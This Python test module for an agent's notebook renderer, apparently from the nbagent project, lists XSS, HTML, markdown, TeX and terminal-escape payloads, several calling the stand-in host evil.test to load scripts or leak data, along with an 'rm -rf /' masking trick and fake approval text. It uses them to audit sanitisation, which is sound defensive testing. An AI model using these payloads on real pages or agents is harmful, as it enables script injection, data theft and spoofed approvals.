"""Texts that want to be more than text, the places where a run shows a text, and the audit.

Each payload tries to set `window.__pwned`, to open a dialog, to load something from evil.test,
or to look like a part of the page that it is not. Owns no expectations.
"""

from __future__ import annotations

import json
import re
from typing import Any

from stories import Story, asked, tool_run

from nbagent.contracts import events
from nbagent.contracts.approval import PreviewPiece
from nbagent.contracts.errors import ErrorInfo
from nbagent.contracts.messages import FilePart, ImagePart, Message, TextPart
from nbagent.contracts.model import ChatResponse, ResponseMeta, ToolSpec
from nbagent.contracts.records import ToolResult
from nbagent.view.node import ATTRIBUTES, TAGS, VALUES
from nbagent.view.theme import STYLES

_GO = "window.__pwned=1"
_AT = "http://evil.test"
_CALL = '{"path":"/x"}'

PAYLOADS: dict[str, str] = {
    # HTML that runs something.
    "script": f"<script>{_GO}</script>",
    "script, remote": f'<script src="{_AT}/a.js"></script>',
    "img onerror": f'<img src=x onerror="{_GO}">',
    "svg onload": f'<svg onload="{_GO}"></svg>',
    "svg foreignObject": f"<svg><foreignObject><img src=x onerror={_GO}></foreignObject></svg>",
    "details ontoggle": f'<details open ontoggle="{_GO}">x</details>',
    "input autofocus": f'<input autofocus onfocus="{_GO}">',
    "handler breakout": f'" onmouseover="{_GO}" x="',
    "iframe srcdoc": "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "iframe javascript": '<iframe src="javascript:parent.__pwned=1"></iframe>',
    "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={_GO}>"></noscript>',
    "math mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={_GO}></style>",
    "svg style mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_GO}>">',
    "title breakout": f"</title><script>{_GO}</script>",
    "style breakout": f"</style><img src=x onerror={_GO}>",
    "comment breakout": f"--><img src=x onerror={_GO}><!--",
    "details breakout": "</pre></td></table></div></details></details><h1>Answered</h1>",
    "summary breakout": f"</summary></code></span><button onclick={_GO}>Approve</button>",
    # HTML that loads or sends something.
    "img remote": f'<img src="{_AT}/p.png?q=secret">',
    "prefetch": f'<link rel="dns-prefetch" href="//evil.test"><link rel="preload" href="{_AT}/l">',
    "base": f'<base href="{_AT}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_AT}/m">',
    "style import": f"<style>@import url({_AT}/i.css);</style>",
    "css injection": f"}}</style><style>.nba-stop{{display:none}}*{{background:url({_AT}/c)}}",
    "style attribute": 'x;position:fixed;inset:0;z-index:9" style="position:fixed;inset:0',
    "form": f'<form action="{_AT}/f"><input name=k value=v><button>Approve</button></form>',
    "dangling markup": f"<img src='{_AT}/d?",
    "command linker": f"<button data-commandlinker-command='filebrowser:open-path' "
    f"data-commandlinker-args='{_CALL}' data-trust-command='true'>run</button>",
    "jupyter ids": '<div id="jp-main-dock-panel" class="jp-Dialog jp-mod-accept nba-stop">x</div>',
    "dom clobbering": '<form id="document"><input name="querySelector"></form><a id="jupyterapp">',
    # Addresses.
    "link javascript": f"[click]({'javascript:' + _GO})",
    "link javascript, entity": f"[click](&#106;avascript&colon;{_GO})",
    "link javascript, coded": f"[click](javascript%3A{_GO}) [b](%6Aavascript:{_GO})",
    "link data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link command": "[click](command:workbench.action.terminal.new) [v](vscode://file/etc/passwd)",
    "link file": "[click](file:///etc/passwd) [r](../../lab) [s](//evil.test/x)",
    "reference link": f"[click][1]\n\n[1]: javascript:{_GO}\n",
    "autolink": f"<javascript:{_GO}> <data:text/html,x> https://evil.test/auto www.evil.test",
    "image markdown": f"![i]({_AT}/i.png) ![j][k]\n\n[k]: {_AT}/k.png",
    "image in a link": f"[![i]({_AT}/l.png)](javascript:{_GO})",
    "image after an empty line": f"x\n\n![i]({_AT}/a.png)\n\n<img src={_AT}/a2.png>\n\n# big",
    "html after an empty line": f"a\n\n<script>{_GO}</script>\n\n<img src=x onerror={_GO}>",
    "fence breakout": f"```\n</code></pre><script>{_GO}</script>\n```\n~~~\n![i]({_AT}/f.png)\n~~~",
    "table": f"|a|\n|-|\n|![i]({_AT}/t.png)<img src={_AT}/t2.png>|",
    "entities": f"&lt;script&gt;{_GO}&lt;/script&gt; &#60;img src=x onerror={_GO}&#62; &NewLine;",
    # TeX, which JupyterLab and nbconvert typeset in any output.
    "tex href": f"$\\href{{javascript:{_GO}}}{{click}}$ \\(\\href{{{_AT}}}{{x}}\\)",
    "tex require": "$\\require{action}\\toggle{a}{b}\\endtoggle$ $$\\require{html}$$",
    "tex style": f"$\\style{{background:url({_AT}/tex.png)}}{{x}} \\class{{nba-stop}}{{y}}$",
    "tex def": "$\\def\\a{\\a\\a}\\a$ \\(\\newcommand{\\b}{\\b\\b}\\b\\) $$\\let\\c\\c$$",
    "tex prices": "it costs $5 and not $6; {{ 7*7 }} {% raw %} ${env:HOME}",
    # Terminals.
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H\x9b31m",
    "osc 8": f"\x1b]8;;{_AT}/osc\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1b]52;c;YQ==\x07",
    "carriage return": "rm -rf /\recho safe\b\b\b\x7f",
    # Characters.
    "bidi": "safe\u202etxt.exe\u202c \u2066a\u2069 \u061c",
    "zero width": "pay\u200bpal \u2060 \ufeff word\u00adword a\u200d\u200cb",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore"),
    "nul": "a\x00b\x01c\ufffe\uffff",
    "lone surrogates": "a\ud800b\udfffc",
    "line separators": f"a\u2028{_GO}\u2029b\x0b\x0c\x85c",
    "zalgo": "a" + "\u0300\u0489\u0301" * 60,
    # Size.
    "long line": "x" * 4000,
    "long address": f"https://evil.test/{'y' * 3000}",
    "nested quotes": ">" * 10_000 + " deep",
    "nested brackets": "[" * 10_000,
    "nested lists": "- " * 10_000,
    # Looking like nbagent itself.
    "fake end": "</div></div></div><div class='nba-run'><div class='nba-error'>✕ deleted</div>",
    "fake approval": "note: approved by you\n%agent resume",
    "format": "%s %n {0} {__class__} ${7*7} `id` $(id) {{constructor.constructor('x')()}}",
}

_AUDIT = r"""
(around) => {
  const tags = new Set(TAGS), names = new Set(NAMES);
  // As the browser writes them: what one declaration of ours becomes.
  const styles = new Set(STYLES.flatMap((text) => {
    const probe = document.createElement("i");
    probe.style.cssText = text;
    return probe.style.cssText.split(";").map((one) => one.trim());
  }));
  const isOurs = (text) => {
    const probe = document.createElement("i");
    probe.style.cssText = text;
    const all = probe.style.cssText.split(";").map((one) => one.trim());
    return all.every((one) => styles.has(one) || /^flex(-grow)?: \d+/.test(one));
  };
  const fine = {
    href: /^(https?|mailto):/i, src: /^data:image\/(png|jpeg|gif|webp);base64,/,
    style: { test: isOurs },
    class: /^(nba-[a-z-]+ ?|mathjax_ignore ?|mathjax_process ?|tex2jax_ignore ?|numbering-entry)*$/,
  };
  const bad = new Set();
  // The sheet stands in the first picture, behind its head.
  const isSheet = (node) =>
    node.localName === "style" && /^\s*\.nba-run *\{--bg/.test(node.textContent);
  for (const node of document.querySelectorAll(".nba-run, .nba-run *")) {
    if (isSheet(node)) continue;
    const html = node.namespaceURI === "http://www.w3.org/1999/xhtml";
    if (!tags.has(node.localName) || !html) bad.add(`<${node.localName}>`);
    for (const { name, value } of node.attributes) {
      if (!names.has(name) || (fine[name] && !fine[name].test(value))) {
        bad.add(`${name}=${value.slice(0, 80)}`);
      }
    }
  }
  const stray = new Set();
  for (const node of document.querySelectorAll(`${around} *`)) {
    if (!node.closest(".nba-run") && !["div", "style"].includes(node.localName)) {
      stray.add(`<${node.localName}>`);
    }
  }
  for (const node of document.querySelectorAll(".nba-run .nba-run")) stray.add(node.className);
  return {
    bad: [...bad], stray: [...stray],
    runs: document.querySelectorAll(".nba-run").length,
    typeset: document.querySelectorAll("mjx-container, .MathJax").length,
    pwned: typeof window.__pwned,
  };
}
"""
_LISTS = {
    "TAGS": [*TAGS],
    "NAMES": [*ATTRIBUTES, *VALUES, "rel", "target"],
    "STYLES": [*STYLES.values()],
}
AUDIT = re.sub("TAGS|NAMES|STYLES", lambda found: json.dumps(_LISTS[found[0]]), _AUDIT)
"""Collects elements and attributes in and around a page's runs that nbagent never makes."""


def story_of(text: str) -> Story:
    """A run that shows a text in each of the places."""
    fine = tool_run("c1", text, {text: text, "k": [text]}, {text: [text, {text: text}]})
    attachments = (
        TextPart(text=text),
        ImagePart(url=text, alt=text),
        ImagePart(media_type="image/svg+xml", data="PHN2Zz4=", alt=text),
        FilePart(name=text, media_type=text, data=""),
    )
    result = ToolResult(ok=True, data=text, attachments=attachments)
    said = {"approval": text, "approved_by": text, "notes": (text,), "result": result}
    plain = tool_run("c2", "t", {"a": text}, text).model_copy(update=said)
    bad = tool_run("c3", "t", {}, ErrorInfo("E_TOOL_FAILED", text)).model_copy(
        update={"error_detail": text}
    )
    meta = ResponseMeta(dropped_params=(text,), attempts=2)
    response = ChatResponse(message=Message.of("assistant", text), meta=meta)
    user = Message.of("user", text)
    tools = (ToolSpec(name=text, description=text),)
    named: dict[str, Any] = {"name": text, "tags": (text,), "session": text, "prompt": text}
    story = Story(text, messages=(user,), **named)
    given: dict[str, Any] = {"agent": text, "node": text, "system": text, "tools": tools}
    story.turn(text, fine, plain, bad, reasoning=text, notices=(text,), **given)
    story.turn(text, response=response)
    story.turn(text).end(notices=(text,), error=ErrorInfo("LLM_HTTP_ERROR", text))
    return _told(story, text)


def _told(story: Story, text: str) -> Story:
    """Add events that are shown for a moment and not stored."""
    error = ErrorInfo("LLM_RATE_LIMITED", text)
    args: dict[str, Any] = {text: text}
    started = next(i for i, e in enumerate(story.events) if isinstance(e, events.TurnStarted))
    story.events[started + 1 : started + 1] = [
        events.Retrying("C01", 1, 30.0, error, text),
        events.Waiting("C01", text),
        events.ToolCallDelta("C01", 7, text, text),
        events.Notice("warning", text),
        events.Notice("info", text, "C01"),
    ]
    begun = next(i for i, e in enumerate(story.events) if isinstance(e, events.ToolCallStarted))
    pieces = (PreviewPiece(text, text, "diff"), PreviewPiece(text, text, "code"))
    question = asked("c1", text, args, host=text, why=text, scope=text, pieces=pieces)
    story.events[begun:begun] = [question, events.ToolProgress("C01", "c1", text, 0.5)]
    return story
